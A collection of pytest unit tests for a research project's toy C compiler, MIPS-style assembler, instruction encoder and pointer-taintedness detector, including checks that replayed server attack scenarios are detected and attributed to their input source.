    def test_shifts(self):
        assert exit_of("return (1 << 5) + (256 >> 3);") == 32 + 32

    def test_arithmetic_right_shift(self):
        assert stdout_of('printf("%d", -16 >> 2);') == "-4"

    def test_unary_operators(self):
        assert exit_of("return -(-5) + !0 + !7 + (~0 & 3);") == 5 + 1 + 0 + 3

    def test_comparisons_produce_zero_one(self):
        assert exit_of(
            "return (1 < 2) + (2 <= 2) + (3 > 1) + (3 >= 4) + (1 == 1) + (1 != 1);"
        ) == 1 + 1 + 1 + 0 + 1 + 0

    def test_signed_comparison(self):
        assert exit_of("return -1 < 1;") == 1

    def test_logical_short_circuit(self):
        # Division by zero in the unevaluated arm must not execute.
        assert exit_of(
            "int x; x = 0;\n"
            "if (x != 0 && 10 / x > 1) { return 1; }\n"
            "if (x == 0 || 10 / x > 1) { return 42; }\n"
            "return 2;"
        ) == 42

    def test_ternary(self):
        assert exit_of("int a; a = 5; return a > 3 ? 10 : 20;") == 10

    def test_comma_operator(self):
        assert exit_of("int a; int b; a = (b = 3, b + 1); return a;") == 4


class TestVariablesAndAssignment:
    def test_compound_assignments(self):
        assert exit_of(
            "int a; a = 10; a += 5; a -= 3; a *= 2; a /= 4; a %= 4;"
            "a <<= 3; a >>= 1; a |= 1; a ^= 3; a &= 14; return a;"
        ) == ((((((10 + 5 - 3) * 2 // 4) % 4) << 3) >> 1 | 1) ^ 3) & 14

    def test_increment_decrement_semantics(self):
        assert exit_of(
            "int a; int b; a = 5; b = a++; return b * 10 + a;"
        ) == 56
        assert exit_of(
            "int a; int b; a = 5; b = ++a; return b * 10 + a;"
        ) == 66
        assert exit_of("int a; a = 5; a--; --a; return a;") == 3

    def test_globals_with_initializers(self):
        assert exit_of(
            "counter += 2; counter += 3; return counter;",
            declarations="int counter = 10;",
        ) == 15

    def test_global_array(self):
        assert exit_of(
            "int i; int s; s = 0;"
            "for (i = 0; i < 5; i++) { table[i] = i * i; }"
            "for (i = 0; i < 5; i++) { s += table[i]; }"
            "return s;",
            declarations="int table[5];",
        ) == 0 + 1 + 4 + 9 + 16

    def test_global_initializer_list(self):
        assert exit_of(
            "return primes[0] + primes[3];",
            declarations="int primes[4] = {2, 3, 5, 7};",
        ) == 9

    def test_char_variables_are_bytes(self):
        assert exit_of("char c; c = 300; return c;") == 300 % 256

    def test_scope_shadowing(self):
        assert exit_of(
            "int x; x = 1; { int x; x = 99; } return x;"
        ) == 1


class TestPointersAndArrays:
    def test_address_of_and_deref(self):
        assert exit_of("int x; int *p; x = 7; p = &x; *p = 9; return x;") == 9

    def test_pointer_arithmetic_scales(self):
        assert exit_of(
            "int a[4]; int *p; a[2] = 31; p = a; p = p + 2; return *p;"
        ) == 31

    def test_pointer_difference(self):
        assert exit_of(
            "int a[10]; int *p; int *q; p = a; q = &a[7]; return q - p;"
        ) == 7

    def test_char_pointer_walk(self):
        assert exit_of(
            'char *s; int n; s = "hello"; n = 0;'
            "while (*s) { n++; s++; } return n;"
        ) == 5

    def test_array_index_assignment(self):
        assert exit_of(
            "char buf[4]; buf[0] = 1; buf[3] = 9; return buf[0] + buf[3];"
        ) == 10

    def test_negative_indexing(self):
        assert exit_of(
            "int a[4]; int *p; a[1] = 5; p = &a[2]; return p[-1];"
        ) == 5

    def test_pointer_to_pointer(self):
        assert exit_of(
            "int x; int *p; int **pp; x = 3; p = &x; pp = &p;"
            "**pp = 8; return x;"
        ) == 8

    def test_pointer_increments_scale(self):
        assert exit_of(
            "int a[3]; int *p; a[0]=1; a[1]=2; a[2]=3; p = a;"
            "p++; return *p;"
        ) == 2

    def test_argv_access(self):
        assert stdout_of(
            'printf("%s %s", argv[0], argv[1]);', argv=["prog", "hello"]
        ) == "prog hello"

    def test_sizeof_values(self):
        assert exit_of(
            "return sizeof(int) + sizeof(char) + sizeof(int *);"
        ) == 4 + 1 + 4


class TestControlFlow:
    def test_nested_loops(self):
        assert exit_of(
            "int i; int j; int s; s = 0;"
            "for (i = 0; i < 4; i++) {"
            "  for (j = 0; j < 4; j++) {"
            "    if (j > i) { continue; }"
            "    s++;"
            "  }"
            "}"
            "return s;"
        ) == 10

    def test_break_leaves_innermost(self):
        assert exit_of(
            "int i; int s; s = 0;"
            "for (i = 0; i < 100; i++) {"
            "  if (i == 5) { break; }"
            "  s += i;"
            "}"
            "return s;"
        ) == 10

    def test_while_with_complex_condition(self):
        assert exit_of(
            "int a; int b; a = 0; b = 10;"
            "while (a < 5 && b > 7) { a++; b--; }"
            "return a * 10 + b;"
        ) == 37

    def test_early_return(self):
        assert exit_of(
            "int i; for (i = 0;; i++) { if (i == 3) { return 99; } }"
        ) == 99


class TestFunctions:
    def test_multiple_arguments(self):
        assert exit_of(
            "return combine(1, 2, 3, 4, 5, 6);",
            declarations=(
                "int combine(int a, int b, int c, int d, int e, int f) {"
                " return a + b * 2 + c * 3 + d * 4 + e * 5 + f * 6; }"
            ),
        ) == 1 + 4 + 9 + 16 + 25 + 36

    def test_recursion(self):
        assert exit_of(
            "return fib(10);",
            declarations=(
                "int fib(int n) { if (n < 2) { return n; }"
                " return fib(n - 1) + fib(n - 2); }"
            ),
        ) == 55

    def test_mutual_recursion_with_prototype(self):
        assert exit_of(
            "return is_even(10) * 10 + is_odd(7);",
            declarations=(
                "int is_odd(int n);\n"
                "int is_even(int n) { if (n == 0) { return 1; }"
                " return is_odd(n - 1); }\n"
                "int is_odd(int n) { if (n == 0) { return 0; }"
                " return is_even(n - 1); }\n"
            ),
        ) == 11

    def test_void_function(self):
        assert exit_of(
            "bump(); bump(); return total;",
            declarations="int total = 0;\nvoid bump(void) { total++; }",
        ) == 2

    def test_pointer_out_parameter(self):
        assert exit_of(
            "int x; x = 0; set_to(&x, 77); return x;",
            declarations="void set_to(int *p, int value) { *p = value; }",
        ) == 77

    def test_array_passed_as_pointer(self):
        assert exit_of(
            "int a[3]; a[0]=4; a[1]=5; a[2]=6; return sum3(a);",
            declarations=(
                "int sum3(int *v) { return v[0] + v[1] + v[2]; }"
            ),
        ) == 15

    def test_varargs_walks_stack(self):
        assert exit_of(
            "return sum_n(3, 10, 20, 30);",
            declarations=(
                "int sum_n(int n, ...) {"
                " int *ap; int i; int total;"
                " ap = &n; ap = ap + 1; total = 0;"
                " for (i = 0; i < n; i++) { total += ap[i]; }"
                " return total; }"
            ),
        ) == 60


class TestCodegenErrors:
    def test_undefined_variable(self):
        with pytest.raises(CompileError, match="undefined variable"):
            build_program("int main(void) { return nope; }")

    def test_address_of_rvalue(self):
        with pytest.raises(CompileError, match="not an lvalue"):
            build_program("int main(void) { return *&(1 + 2); }")

    def test_break_outside_loop(self):
        with pytest.raises(CompileError, match="break outside loop"):
            build_program("int main(void) { break; return 0; }")

    def test_continue_outside_loop(self):
        with pytest.raises(CompileError, match="continue outside loop"):
            build_program("int main(void) { continue; return 0; }")

    def test_local_array_initializer_unsupported(self):
        with pytest.raises(CompileError, match="array local initializers"):
            build_program("int main(void) { int a[2] = 1; return 0; }")
