"""Tests for the dereference detector and the detection policies."""

import pytest

from repro.core.detector import (
    Alert,
    KIND_JUMP,
    KIND_LOAD,
    KIND_STORE,
    SecurityException,
    TaintednessDetector,
)
from repro.core.policy import (
    ControlDataPolicy,
    DetectionPolicy,
    NullPolicy,
    PointerTaintPolicy,
)


class TestPolicies:
    def test_pointer_taint_checks_everything(self):
        policy = PointerTaintPolicy()
        assert policy.checks(KIND_LOAD)
        assert policy.checks(KIND_STORE)
        assert policy.checks(KIND_JUMP)

    def test_control_data_checks_only_jumps(self):
        policy = ControlDataPolicy()
        assert not policy.checks(KIND_LOAD)
        assert not policy.checks(KIND_STORE)
        assert policy.checks(KIND_JUMP)

    def test_null_checks_nothing(self):
        policy = NullPolicy()
        for kind in (KIND_LOAD, KIND_STORE, KIND_JUMP):
            assert not policy.checks(kind)

    def test_default_compatibility_options_enabled(self):
        policy = PointerTaintPolicy()
        assert policy.untaint_on_compare
        assert policy.untaint_xor_idiom
        assert policy.untaint_and_zero
        assert policy.track_taint

    def test_with_options_returns_variant(self):
        policy = PointerTaintPolicy()
        variant = policy.with_options(untaint_on_compare=False)
        assert not variant.untaint_on_compare
        assert policy.untaint_on_compare  # original unchanged
        assert variant.checked_kinds == policy.checked_kinds

    def test_policies_are_frozen(self):
        with pytest.raises(Exception):
            PointerTaintPolicy().name = "x"

    def test_names(self):
        assert PointerTaintPolicy().name == "pointer-taintedness"
        assert ControlDataPolicy().name == "control-data-only"
        assert NullPolicy().name == "unprotected"


class TestDetector:
    def _check(self, detector, kind=KIND_LOAD, taint=0xF):
        return detector.check(
            kind=kind,
            pc=0x400100,
            disassembly="lw $3,0($3)",
            pointer_value=0x61616161,
            taint_mask=taint,
        )

    def test_clean_word_never_alerts(self):
        detector = TaintednessDetector(PointerTaintPolicy())
        assert self._check(detector, taint=0) is None
        assert detector.alerts == []

    def test_tainted_load_alerts_under_paper_policy(self):
        detector = TaintednessDetector(PointerTaintPolicy())
        alert = self._check(detector)
        assert alert is not None
        assert alert.kind == KIND_LOAD
        assert alert.pointer_value == 0x61616161
        assert detector.alerts == [alert]

    def test_single_tainted_byte_suffices(self):
        """The OR gate of section 4.3: any byte of the word trips it."""
        detector = TaintednessDetector(PointerTaintPolicy())
        assert self._check(detector, taint=0b0010) is not None

    def test_control_data_policy_ignores_data_derefs(self):
        detector = TaintednessDetector(ControlDataPolicy())
        assert self._check(detector, kind=KIND_LOAD) is None
        assert self._check(detector, kind=KIND_STORE) is None
        assert self._check(detector, kind=KIND_JUMP) is not None

    def test_null_policy_never_alerts(self):
        detector = TaintednessDetector(NullPolicy())
        for kind in (KIND_LOAD, KIND_STORE, KIND_JUMP):
            assert self._check(detector, kind=kind) is None

    def test_reset_clears_log(self):
        detector = TaintednessDetector(PointerTaintPolicy())
        self._check(detector)
        detector.reset()
        assert detector.alerts == []

    def test_alert_string_has_paper_shape(self):
        alert = Alert(
            pc=0x44D7B0,
            kind=KIND_STORE,
            disassembly="sw $21,0($3)",
            pointer_value=0x1002BC20,
            taint_mask=0xF,
        )
        rendered = str(alert)
        assert "44d7b0" in rendered
        assert "sw $21,0($3)" in rendered
        assert "0x1002bc20" in rendered

    def test_security_exception_carries_alert(self):
        alert = Alert(
            pc=0x400000,
            kind=KIND_JUMP,
            disassembly="jr $31",
            pointer_value=0x61616161,
            taint_mask=0xF,
        )
        exc = SecurityException(alert)
        assert exc.alert is alert
        assert "jr $31" in str(exc)
