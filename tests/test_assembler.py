"""Assembler tests: directives, labels, pseudo-instructions, diagnostics."""

import pytest

from repro.isa.assembler import Assembler, AssemblerError, assemble
from repro.mem.layout import DATA_BASE, TEXT_BASE


def asm(text):
    return assemble(".text\n_start:\n" + text)


class TestBasics:
    def test_text_base_and_entry(self):
        exe = asm("nop\n")
        assert exe.text_base == TEXT_BASE
        assert exe.entry == TEXT_BASE

    def test_instruction_addresses_advance_by_four(self):
        exe = asm("nop\nnop\nadd $1,$2,$3\n")
        assert len(exe.text_words) == 3
        assert exe.instruction_at(TEXT_BASE + 8).name == "add"

    def test_register_names_and_numbers_equivalent(self):
        exe = asm("add $t0,$sp,$ra\nadd $8,$29,$31\n")
        assert exe.text_words[0] == exe.text_words[1]

    def test_comments_stripped(self):
        exe = asm("nop # comment\nnop ; also\n")
        assert len(exe.text_words) == 2

    def test_hash_inside_string_kept(self):
        exe = assemble('.text\n_start: nop\n.data\ns: .asciiz "a#b"\n')
        assert bytes(exe.data) == b"a#b\0"

    def test_multiple_labels_one_line(self):
        exe = asm("a: b: nop\n")
        assert exe.symbols["a"] == exe.symbols["b"] == TEXT_BASE

    def test_source_map_records_lines(self):
        exe = asm("add $1,$2,$3\n")
        assert "add" in exe.source_map[TEXT_BASE]

    def test_disassembly_listing(self):
        exe = asm("lw $t0,4($sp)\n")
        listing = exe.disassembly()
        assert "lw $8,4($29)" in listing
        assert "_start:" in listing


class TestDataDirectives:
    def test_word_values(self):
        exe = assemble(
            ".text\n_start: nop\n.data\nv: .word 1, -1, 0x10\n"
        )
        assert exe.data[0:4] == (1).to_bytes(4, "little")
        assert exe.data[4:8] == (0xFFFFFFFF).to_bytes(4, "little")
        assert exe.data[8:12] == (0x10).to_bytes(4, "little")

    def test_word_symbolic_fixup(self):
        exe = assemble(
            ".text\n_start: nop\n.data\np: .word q+4\nq: .word 7\n"
        )
        q = exe.symbols["q"]
        assert int.from_bytes(exe.data[0:4], "little") == q + 4

    def test_byte_and_half(self):
        exe = assemble(
            ".text\n_start: nop\n.data\nb: .byte 1,2,'A'\nh: .half 0x1234\n"
        )
        assert exe.data[0:3] == bytes([1, 2, 65])
        # .half aligns to 2
        assert exe.symbols["h"] == DATA_BASE + 4
        assert exe.data[4:6] == (0x1234).to_bytes(2, "little")

    def test_asciiz_escapes(self):
        exe = assemble(
            '.text\n_start: nop\n.data\ns: .asciiz "a\\n\\x41\\0z"\n'
        )
        assert bytes(exe.data) == b"a\nAz"[:3] + b"\0" + b"z\0"

    def test_ascii_no_terminator(self):
        exe = assemble('.text\n_start: nop\n.data\ns: .ascii "ab"\n')
        assert bytes(exe.data) == b"ab"

    def test_space_and_align(self):
        exe = assemble(
            ".text\n_start: nop\n.data\na: .byte 1\nb: .align 3\nc: .word 5\n"
        )
        assert exe.symbols["a"] == DATA_BASE
        assert exe.symbols["c"] == DATA_BASE + 8

    def test_label_before_aligned_word_points_at_word(self):
        exe = assemble(
            '.text\n_start: nop\n.data\ns: .asciiz "abc"\nv: .word 9\n'
        )
        assert exe.symbols["v"] % 4 == 0
        value_at = exe.symbols["v"] - DATA_BASE
        assert int.from_bytes(exe.data[value_at : value_at + 4], "little") == 9

    def test_equ_constants(self):
        exe = assemble(
            ".equ SIZE, 48\n.text\n_start: addiu $t0,$0,SIZE\n"
        )
        assert exe.instructions[0].imm == 48


class TestPseudoInstructions:
    def test_nop_is_sll_zero(self):
        exe = asm("nop\n")
        assert exe.text_words[0] == 0

    def test_move(self):
        exe = asm("move $t0,$t1\n")
        assert exe.instructions[0].name == "addu"
        assert exe.instructions[0].rt == 0

    def test_li_small_is_one_instruction(self):
        exe = asm("li $t0, 42\nsyscall\n")
        assert exe.instructions[0].name == "addiu"
        assert exe.instructions[0].imm == 42

    def test_li_negative_small(self):
        exe = asm("li $t0, -5\n")
        assert exe.instructions[0].imm == -5

    def test_li_large_is_lui_ori(self):
        exe = asm("li $t0, 0x12345678\n")
        assert [i.name for i in exe.instructions] == ["lui", "ori"]
        assert exe.instructions[0].imm == 0x1234
        assert exe.instructions[1].imm == 0x5678

    def test_li_high_halfword_only_is_lui(self):
        exe = asm("li $t0, 0x40000\n")
        assert [i.name for i in exe.instructions] == ["lui"]

    def test_la_two_instructions(self):
        exe = assemble(
            ".text\n_start: la $t0, v\nnop\n.data\nv: .word 0\n"
        )
        assert [i.name for i in exe.instructions[:2]] == ["lui", "ori"]

    def test_branch_pseudos_expand_to_slt(self):
        exe = asm("blt $t0,$t1,_start\nbge $t0,$t1,_start\n")
        names = [i.name for i in exe.instructions]
        assert names == ["slt", "bne", "slt", "beq"]

    def test_unsigned_branch_pseudos(self):
        exe = asm("bltu $t0,$t1,_start\n")
        assert exe.instructions[0].name == "sltu"

    def test_not_and_neg(self):
        exe = asm("not $t0,$t1\nneg $t2,$t3\n")
        assert exe.instructions[0].name == "nor"
        assert exe.instructions[1].name == "sub"

    def test_beqz_bnez(self):
        exe = asm("beqz $t0,_start\nbnez $t0,_start\n")
        assert [i.name for i in exe.instructions] == ["beq", "bne"]


class TestBranchesAndJumps:
    def test_backward_branch_offset(self):
        exe = asm("top: nop\nbeq $0,$0,top\n")
        # branch at TEXT_BASE+4, target TEXT_BASE: offset = -2
        assert exe.instructions[1].imm == -2

    def test_forward_branch_offset(self):
        exe = asm("beq $0,$0,done\nnop\ndone: nop\n")
        assert exe.instructions[0].imm == 1

    def test_jump_target_absolute(self):
        exe = asm("j _start\n")
        assert exe.instructions[0].target == TEXT_BASE

    def test_jalr_default_link_register(self):
        exe = asm("jalr $t0\n")
        assert exe.instructions[0].rd == 31


class TestErrors:
    def test_unknown_mnemonic(self):
        with pytest.raises(AssemblerError, match="unknown mnemonic"):
            asm("frobnicate $t0\n")

    def test_unknown_register(self):
        with pytest.raises(AssemblerError, match="unknown register"):
            asm("add $t0,$t1,$zz\n")

    def test_undefined_symbol(self):
        with pytest.raises(AssemblerError, match="undefined symbol"):
            asm("j nowhere\n")

    def test_duplicate_symbol(self):
        with pytest.raises(AssemblerError, match="duplicate symbol"):
            asm("a: nop\na: nop\n")

    def test_immediate_out_of_range(self):
        with pytest.raises(AssemblerError, match="out of 16-bit range"):
            asm("addiu $t0,$0,40000\n")

    def test_instruction_in_data_section(self):
        with pytest.raises(AssemblerError, match="outside .text"):
            assemble(".data\nadd $1,$2,$3\n")

    def test_data_directive_in_text(self):
        with pytest.raises(AssemblerError, match="outside .data"):
            assemble('.text\n_start: .word 1\n')

    def test_operand_count_checked(self):
        with pytest.raises(AssemblerError, match="expected 3 operands"):
            asm("add $t0,$t1\n")

    def test_bad_memory_operand(self):
        with pytest.raises(AssemblerError, match="bad memory operand"):
            asm("lw $t0, t1\n")

    def test_missing_entry_symbol(self):
        exe = assemble(".text\nmain: nop\n", entry_symbol="_start")
        with pytest.raises(KeyError):
            exe.entry

    def test_error_reports_line_number(self):
        try:
            assemble(".text\n_start: nop\nbogus $1\n")
        except AssemblerError as exc:
            assert "line 3" in str(exc)
        else:
            pytest.fail("expected AssemblerError")

    def test_unterminated_string(self):
        with pytest.raises(AssemblerError):
            assemble('.data\ns: .asciiz "abc\n')


class TestCustomBases:
    def test_custom_segment_bases(self):
        assembler = Assembler(text_base=0x10000, data_base=0x20000)
        exe = assembler.assemble(
            ".text\n_start: nop\n.data\nv: .word 1\n"
        )
        assert exe.entry == 0x10000
        assert exe.symbols["v"] == 0x20000
