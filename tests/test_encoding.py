"""Binary encode/decode tests: every mnemonic round-trips."""

import pytest
from hypothesis import given, strategies as st

from repro.isa.encoding import decode, encode, sign_extend16
from repro.isa.instructions import (
    FMT_BR1,
    FMT_BR2,
    FMT_I2,
    FMT_J,
    FMT_JALR,
    FMT_JR,
    FMT_LUI,
    FMT_MEM,
    FMT_MOVEHL,
    FMT_MULDIV,
    FMT_NONE,
    FMT_R3,
    FMT_SHIFT,
    FMT_SHIFTV,
    Instr,
    SPECS,
)

regs = st.integers(0, 31)


def _sample_instr(name, rd=0, rs=0, rt=0, shamt=0, imm=0, target=0):
    spec = SPECS[name]
    return Instr(
        name, spec.klass, rd=rd, rs=rs, rt=rt, shamt=shamt, imm=imm,
        target=target,
    )


def _assert_roundtrip(instr, pc=0x400000):
    word = encode(instr)
    assert 0 <= word < 2 ** 32
    decoded = decode(word, pc)
    assert decoded is not None, f"{instr.name} decoded to illegal"
    assert decoded.name == instr.name
    return decoded


class TestSignExtension:
    def test_positive(self):
        assert sign_extend16(0x7FFF) == 32767

    def test_negative(self):
        assert sign_extend16(0x8000) == -32768
        assert sign_extend16(0xFFFF) == -1

    def test_masks_high_bits(self):
        assert sign_extend16(0x1FFFF) == -1


class TestRoundTrips:
    @pytest.mark.parametrize(
        "name",
        [n for n, s in SPECS.items() if s.fmt == FMT_R3],
    )
    def test_r3(self, name):
        decoded = _assert_roundtrip(_sample_instr(name, rd=3, rs=7, rt=21))
        assert (decoded.rd, decoded.rs, decoded.rt) == (3, 7, 21)

    @pytest.mark.parametrize(
        "name", [n for n, s in SPECS.items() if s.fmt == FMT_SHIFT]
    )
    def test_shift(self, name):
        decoded = _assert_roundtrip(_sample_instr(name, rd=5, rt=6, shamt=13))
        assert (decoded.rd, decoded.rt, decoded.shamt) == (5, 6, 13)

    @pytest.mark.parametrize(
        "name", [n for n, s in SPECS.items() if s.fmt == FMT_SHIFTV]
    )
    def test_shiftv(self, name):
        decoded = _assert_roundtrip(_sample_instr(name, rd=1, rt=2, rs=3))
        assert (decoded.rd, decoded.rt, decoded.rs) == (1, 2, 3)

    @pytest.mark.parametrize(
        "name", [n for n, s in SPECS.items() if s.fmt == FMT_MULDIV]
    )
    def test_muldiv(self, name):
        decoded = _assert_roundtrip(_sample_instr(name, rs=9, rt=10))
        assert (decoded.rs, decoded.rt) == (9, 10)

    @pytest.mark.parametrize(
        "name", [n for n, s in SPECS.items() if s.fmt == FMT_MOVEHL]
    )
    def test_movehl(self, name):
        decoded = _assert_roundtrip(_sample_instr(name, rd=30))
        assert decoded.rd == 30

    def test_jr(self):
        decoded = _assert_roundtrip(_sample_instr("jr", rs=31))
        assert decoded.rs == 31

    def test_jalr(self):
        decoded = _assert_roundtrip(_sample_instr("jalr", rd=31, rs=4))
        assert (decoded.rd, decoded.rs) == (31, 4)

    @pytest.mark.parametrize(
        "name", [n for n, s in SPECS.items() if s.fmt == FMT_I2]
    )
    @pytest.mark.parametrize("imm", [0, 1, 100])
    def test_itype(self, name, imm):
        decoded = _assert_roundtrip(_sample_instr(name, rt=8, rs=9, imm=imm))
        assert (decoded.rt, decoded.rs, decoded.imm) == (8, 9, imm)

    @pytest.mark.parametrize(
        "name", [n for n, s in SPECS.items()
                 if s.fmt == FMT_I2 and n not in ("andi", "ori", "xori", "sltiu")]
    )
    def test_itype_negative_imm(self, name):
        decoded = _assert_roundtrip(_sample_instr(name, rt=8, rs=9, imm=-42))
        assert decoded.imm == -42

    def test_lui(self):
        decoded = _assert_roundtrip(_sample_instr("lui", rt=4, imm=0xDEAD))
        assert decoded.imm == 0xDEAD

    @pytest.mark.parametrize(
        "name", [n for n, s in SPECS.items() if s.fmt == FMT_MEM]
    )
    def test_memory(self, name):
        decoded = _assert_roundtrip(_sample_instr(name, rt=2, rs=29, imm=-8))
        assert (decoded.rt, decoded.rs, decoded.imm) == (2, 29, -8)

    @pytest.mark.parametrize(
        "name", [n for n, s in SPECS.items() if s.fmt == FMT_BR2]
    )
    def test_branch2(self, name):
        decoded = _assert_roundtrip(_sample_instr(name, rs=4, rt=5, imm=-3))
        assert (decoded.rs, decoded.rt, decoded.imm) == (4, 5, -3)

    @pytest.mark.parametrize(
        "name", [n for n, s in SPECS.items() if s.fmt == FMT_BR1]
    )
    def test_branch1(self, name):
        decoded = _assert_roundtrip(_sample_instr(name, rs=4, imm=7))
        assert (decoded.rs, decoded.imm) == (4, 7)

    @pytest.mark.parametrize("name", ["j", "jal"])
    def test_jumps(self, name):
        decoded = _assert_roundtrip(
            _sample_instr(name, target=0x00400404), pc=0x400000
        )
        assert decoded.target == 0x00400404

    @pytest.mark.parametrize(
        "name", [n for n, s in SPECS.items() if s.fmt == FMT_NONE]
    )
    def test_system(self, name):
        _assert_roundtrip(_sample_instr(name))

    def test_every_mnemonic_covered(self):
        """Every instruction in the table encodes and decodes."""
        for name in SPECS:
            _assert_roundtrip(_sample_instr(name, rd=1, rs=2, rt=3))


class TestDecodeRobustness:
    def test_illegal_funct_returns_none(self):
        assert decode(0x0000003F) is None  # R-type funct 63 unused

    def test_illegal_opcode_returns_none(self):
        assert decode(0xFC000000) is None  # opcode 63 unused

    def test_illegal_regimm_returns_none(self):
        assert decode(1 << 26 | 5 << 16) is None  # regimm rt=5 unused

    @given(st.integers(0, 2 ** 32 - 1))
    def test_decode_never_crashes(self, word):
        instr = decode(word, pc=0x400000)
        if instr is not None:
            # Whatever decodes must re-encode to the same semantic fields.
            redecoded = decode(encode(instr), pc=0x400000)
            assert redecoded is not None
            assert redecoded.name == instr.name

    @given(regs, regs, regs)
    def test_add_fields_roundtrip(self, rd, rs, rt):
        decoded = _assert_roundtrip(_sample_instr("add", rd=rd, rs=rs, rt=rt))
        assert (decoded.rd, decoded.rs, decoded.rt) == (rd, rs, rt)

    @given(st.integers(-0x8000, 0x7FFF))
    def test_lw_offset_roundtrip(self, imm):
        decoded = _assert_roundtrip(_sample_instr("lw", rt=1, rs=2, imm=imm))
        assert decoded.imm == imm
