"""Bit mode vs label mode: provenance must be free.

Label mode adds a provenance sidecar on top of the paper's 1-bit taint
plane; it must never change what the machine *does*.  Every built-in
attack scenario is replayed in both modes and the verdicts, statistics,
and (for campaigns) the reproducibility digest have to agree exactly --
the only observable difference is the provenance chain on the alert.
"""

import pytest

from repro.api import Session, validate_result_json
from repro.apps import (
    ghttpd_scenario,
    nullhttpd_scenario,
    traceroute_scenario,
    wuftpd_scenario,
)
from repro.core.policy import PointerTaintPolicy
from repro.evalx.experiments import all_attack_scenarios
from repro.fault.campaign import CampaignConfig, FaultCampaign
from repro.fault.workloads import builtin_workload

_SCENARIOS = {s.name: s for s in all_attack_scenarios()}


def _verdict(result):
    stats = result.sim.stats
    return (
        result.outcome,
        result.exit_status,
        (result.alert.kind, result.alert.pc) if result.alert else None,
        stats.instructions,
        stats.tainted_dereferences,
        stats.alerts,
        result.stdout,
    )


class TestBitLabelDifferential:
    @pytest.mark.parametrize("name", sorted(_SCENARIOS))
    def test_attack_verdict_identical_in_both_modes(self, name):
        scenario = _SCENARIOS[name]
        bit = scenario.run_attack(PointerTaintPolicy())
        labeled = scenario.run_attack(
            PointerTaintPolicy(), taint_labels=True
        )
        assert _verdict(bit) == _verdict(labeled)
        assert bit.detected == labeled.detected
        # The one permitted difference: the label-mode alert may carry
        # provenance, the bit-mode alert never does.
        if bit.alert is not None:
            assert bit.alert.provenance == ()
            assert str(bit.alert) == str(labeled.alert)

    @pytest.mark.parametrize("name", sorted(_SCENARIOS))
    def test_benign_verdict_identical_in_both_modes(self, name):
        scenario = _SCENARIOS[name]
        if not scenario.benign_input:
            pytest.skip("scenario has no benign input")
        bit = scenario.run_benign(PointerTaintPolicy())
        labeled = scenario.run_benign(
            PointerTaintPolicy(), taint_labels=True
        )
        assert _verdict(bit) == _verdict(labeled)


class TestRealWorldProvenance:
    """Acceptance: the four real-world replays must attribute the attack
    to the correct external input in label mode."""

    @pytest.mark.parametrize(
        "factory, syscall",
        [
            (wuftpd_scenario, "recv"),
            (nullhttpd_scenario, "recv"),
            (ghttpd_scenario, "recv"),
        ],
    )
    def test_server_attacks_blame_the_network(self, factory, syscall):
        scenario = factory()
        result = scenario.run_attack(
            PointerTaintPolicy(), taint_labels=True
        )
        assert result.detected
        provenance = result.alert.provenance
        assert provenance, "label mode must attribute the alert"
        assert all(l.syscall == syscall for l in provenance)
        assert all(l.source_kind == "net" for l in provenance)
        for label in provenance:
            start, end = label.offset_range
            assert start < end

    def test_traceroute_attack_blames_argv(self):
        scenario = traceroute_scenario()
        result = scenario.run_attack(
            PointerTaintPolicy(), taint_labels=True
        )
        assert result.detected
        provenance = result.alert.provenance
        assert provenance, "label mode must attribute the alert"
        assert all(l.source_kind == "argv" for l in provenance)

    def test_provenance_surfaces_in_json_and_validates(self):
        session = Session(policy="paper", metrics=True, taint_labels=True)
        scenario = wuftpd_scenario()
        kwargs = scenario._materialize(scenario.attack_input)
        result = session.run_executable(scenario.build(), **kwargs)
        payload = validate_result_json(result.to_json())
        entries = payload["stats"]["provenance"]
        assert entries
        assert all(e["syscall"] == "recv" for e in entries)
        gauges = payload["metrics"]["gauges"]
        assert gauges["taint.labels.allocated"] > 0
        assert gauges["taint.labelsets.interned"] > 1

    def test_malformed_provenance_rejected_by_schema(self):
        payload = {
            "kind": "run",
            "detected": True,
            "stats": {"provenance": [{"source_kind": ""}]},
            "metrics": {},
        }
        with pytest.raises(ValueError):
            validate_result_json(payload)


class TestCampaignDigestAcrossModes:
    def test_digest_reproducible_per_seed_in_both_modes(self):
        workload = builtin_workload("pointer-chase")

        def digest(taint_labels, seed=5):
            campaign = FaultCampaign(
                workload,
                CampaignConfig(
                    seed=seed, trials=15, taint_labels=taint_labels
                ),
            )
            return campaign.run().digest()

        bit = digest(False)
        labeled = digest(True)
        # Same-seed reruns agree mode-internally...
        assert digest(False) == bit
        assert digest(True) == labeled
        # ...and the modes agree with each other: provenance never leaks
        # into alert strings, fault details, or trial classification.
        assert bit == labeled
