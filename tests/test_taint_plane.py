"""Unit tests for the unified taint plane and its label algebra."""

import pytest

from repro.attacks.replay import run_minic
from repro.core.policy import PointerTaintPolicy
from repro.fault.faults import FaultSpec, apply_state_fault
from repro.mem.registers import RegisterFile
from repro.mem.tainted_memory import TaintedMemory
from repro.taint import (
    MODE_BIT,
    MODE_LABEL,
    LabelTable,
    TaintLabel,
    TaintPlane,
)


class TestTaintLabel:
    def test_describe_syscall(self):
        label = TaintLabel(
            source_kind="net", syscall="recv", fd=4, offset_range=(96, 100)
        )
        assert label.describe() == "recv(fd=4) bytes 96..99"

    def test_describe_argv(self):
        label = TaintLabel(source_kind="argv", fd=1, offset_range=(0, 11))
        assert label.describe() == "argv[1] bytes 0..10"

    def test_describe_bare_source(self):
        assert TaintLabel(source_kind="fault-injection").describe() == (
            "fault-injection"
        )

    def test_to_dict_is_json_ready(self):
        label = TaintLabel(
            source_kind="stdin", syscall="read", fd=0,
            offset_range=(0, 8), insn_index=42,
        )
        d = label.to_dict()
        assert d["source_kind"] == "stdin"
        assert d["syscall"] == "read"
        assert d["fd"] == 0
        assert d["offset_range"] == [0, 8]
        assert d["insn_index"] == 42
        assert d["describe"] == "read(fd=0) bytes 0..7"


class TestLabelTable:
    def test_label_ids_are_one_based(self):
        table = LabelTable()
        first = table.new_label(source_kind="stdin")
        second = table.new_label(source_kind="net")
        assert (first, second) == (1, 2)
        assert table.label(first).source_kind == "stdin"
        assert table.label(second).source_kind == "net"

    def test_sid_zero_is_empty_set(self):
        table = LabelTable()
        assert table.members(0) == ()
        assert table.interned_sets == 1

    def test_singleton_interned(self):
        table = LabelTable()
        lid = table.new_label(source_kind="stdin")
        sid = table.singleton(lid)
        assert sid != 0
        assert table.singleton(lid) == sid
        assert table.members(sid) == (table.label(lid),)

    def test_union_identities(self):
        table = LabelTable()
        a = table.singleton(table.new_label(source_kind="stdin"))
        assert table.union(a, 0) == a
